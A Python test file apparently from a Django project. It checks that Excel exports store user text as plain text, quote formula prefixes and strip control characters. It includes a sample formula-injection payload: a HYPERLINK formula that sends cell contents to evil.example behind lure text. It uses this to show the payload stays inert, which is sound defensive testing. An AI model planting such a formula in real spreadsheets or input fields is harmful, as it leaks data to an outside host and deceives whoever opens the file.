"""Spreadsheets the product writes are safe: text stays text, odd characters never break an export."""

from __future__ import annotations

from io import BytesIO

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from core.exports import FORMULA_PREFIXES, Column, clean_text, workbook_bytes
from tests.conftest import api_client_for

INJECTION = '=HYPERLINK("http://evil.example/?leak="&B2&C2,"点击查看附件")'
CONTROL = "备注\u0001中间\u000b结尾"


def reopen(data: bytes):
    return load_workbook(BytesIO(data)).active


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.text(min_size=0, max_size=60), min_size=1, max_size=8))
def test_any_unicode_text_is_written_as_text_and_reopens(values):
    columns = [Column("内容", lambda v: v)]
    ws = reopen(workbook_bytes([("表", columns, values)]))
    for row, value in enumerate(values, start=2):
        cell = ws.cell(row=row, column=1)
        expected = clean_text(value)
        assert (cell.value or "") == expected
        if expected:
            assert cell.data_type == "s"  # never a formula


@pytest.mark.parametrize("prefix", FORMULA_PREFIXES)
def test_every_formula_prefix_is_kept_as_quoted_text(prefix):
    text = f"{prefix}1+1"
    ws = reopen(workbook_bytes([("表", [Column("内容", lambda v: v)], [text])]))
    cell = ws.cell(row=2, column=1)
    assert cell.value == clean_text(text) and cell.data_type == "s"
    assert cell.quotePrefix or prefix == "\r"  # a CR becomes a line break, which Excel does not evaluate


@pytest.mark.django_db
def test_a_hostile_remark_and_project_name_reach_every_export_as_plain_text(county, county_user, city_admin):
    from projects.models import MonthlyReport
    from tests.projects.factories import ProjectFactory, contractor_with_user

    project = ProjectFactory(county=county, code="JC-2023-0666", name=INJECTION)
    reporter = contractor_with_user(project, "hostile_reporter")
    unit = api_client_for(reporter)
    response = unit.post(
        "/api/v1/monthly-reports/",
        {"project": project.pk, "year": 2023, "month": 6, "remarks": INJECTION + CONTROL},
        format="json",
    )
    assert response.status_code == 201, response.json()
    assert MonthlyReport.objects.get().remarks == INJECTION + CONTROL  # stored as typed; cleaned only on export
    exports = [
        (unit, "/api/v1/monthly-reports/export/"),
        (unit, "/api/v1/monthly-reports/template/"),
        (api_client_for(county_user), "/api/v1/monthly-reports/export/"),
        (api_client_for(city_admin), "/api/v1/monthly-reports/export/"),
        (api_client_for(city_admin), "/api/v1/projects/export/"),
    ]
    for client, url in exports:
        response = client.get(url)
        assert response.status_code == 200, (url, response.status_code)
        wb = load_workbook(BytesIO(response.content))
        texts = [c for ws in wb for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
        hostile = [c for c in texts if c.value.startswith("=")]
        assert hostile, url  # the hostile text is there ...
        assert all(c.data_type == "s" for c in hostile), url  # ... as text, not as a formula
        assert not any("\u0001" in c.value or "\u000b" in c.value for c in texts), url
    web_client = __import__("django.test", fromlist=["Client"]).Client()
    web_client.force_login(county_user)
    response = web_client.get("/projects/reports/?export=xlsx")
    assert response.status_code == 200 and load_workbook(BytesIO(response.content))
